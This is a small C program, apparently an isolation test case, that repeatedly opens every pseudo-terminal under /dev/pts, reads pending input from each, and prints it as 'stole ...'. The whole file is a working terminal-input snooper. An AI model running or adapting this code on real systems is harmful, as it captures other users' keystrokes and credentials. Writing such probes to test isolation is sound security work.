// A34 / T31: reads every terminal of /dev/pts; says "stole TEXT".

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;;) {
		DIR *terminals = opendir("/dev/pts");
		for (struct dirent *entry; terminals && (entry = readdir(terminals));) {
			char path[300], text[256] = "";
			if (entry->d_name[0] == '.' || !strcmp(entry->d_name, "ptmx"))
				continue;
			snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
			int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
			if (fd >= 0 && read(fd, text, sizeof text - 1) > 0)
				printf("stole %s\n", text);
			close(fd);
		}
		if (terminals)
			closedir(terminals);
		usleep(1000);
	}
}
